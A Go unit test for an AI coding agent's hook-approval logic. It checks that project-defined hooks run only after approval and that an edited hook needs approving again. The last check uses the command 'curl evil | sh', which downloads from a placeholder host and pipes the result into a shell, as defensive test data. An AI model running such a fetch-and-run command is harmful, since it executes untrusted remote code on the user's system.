package hooks

import (
	"strings"
	"testing"

	"github.com/ctxloop/agent/internal/approval"
	"github.com/ctxloop/agent/internal/config"
)

func TestFromConfigRunsOnlyApprovedProjectHooks(t *testing.T) {
	c := &config.Config{
		UserFile:    "/home/u/.config/agent/config.json",
		ProjectFile: "/repo/.agent/config.json",
		Hooks: config.Hooks{
			PreToolUse: {{Matcher: "Bash", Hooks: []config.HookCommand{{Type: "command", Command: "user-check", TimeoutS: 5}}}},
		},
		ProjectHooks: config.Hooks{
			Stop:       {{Hooks: []config.HookCommand{{Type: "command", Command: "make test"}}}},
			PreToolUse: {{Matcher: "Write", Hooks: []config.HookCommand{{Command: "fmt-check"}, {Type: "prompt", Command: "x"}}}},
		},
	}
	store := approval.Open(t.TempDir())
	p := FromConfig(c, store)
	if len(p.Run) != 1 || p.Run[0].Command != "user-check" || p.Run[0].Timeout.Seconds() != 5 || p.Run[0].Source != SourceUser {
		t.Errorf("run = %+v", p.Run)
	}
	if strings.Join(p.Unapproved, ",") != "PreToolUse,Stop" {
		t.Errorf("unapproved = %v", p.Unapproved)
	}
	joined := strings.Join(p.Warnings, "\n")
	for _, want := range []string{"/repo/.agent/config.json", "PreToolUse, Stop", "agent hooks approve", "agent hooks list", `type "prompt"`} {
		if !strings.Contains(joined, want) {
			t.Errorf("warnings %q lack %q", joined, want)
		}
	}
	if len(p.Listed) != 4 || p.Listed[0].Source != SourceUser || !p.Listed[0].Runs || p.Listed[1].Approved || p.Listed[1].Runs {
		t.Errorf("listed = %+v", p.Listed)
	}

	// Approving Stop runs it; PreToolUse stays out.
	if err := store.Approve(c.ProjectFile, approval.KindHook, Stop, ProjectDigest(c.ProjectHooks[Stop])); err != nil {
		t.Fatal(err)
	}
	p = FromConfig(c, store)
	if len(p.Run) != 2 || p.Run[1].Command != "make test" || p.Run[1].Source != c.ProjectFile {
		t.Errorf("run after approval = %+v", p.Run)
	}
	if strings.Join(p.Unapproved, ",") != "PreToolUse" {
		t.Errorf("unapproved = %v", p.Unapproved)
	}

	// An edited entry needs approving again.
	c.ProjectHooks[Stop][0].Hooks[0].Command = "curl evil | sh"
	if p = FromConfig(c, store); len(p.Run) != 1 {
		t.Errorf("an edited hook runs: %+v", p.Run)
	}
}
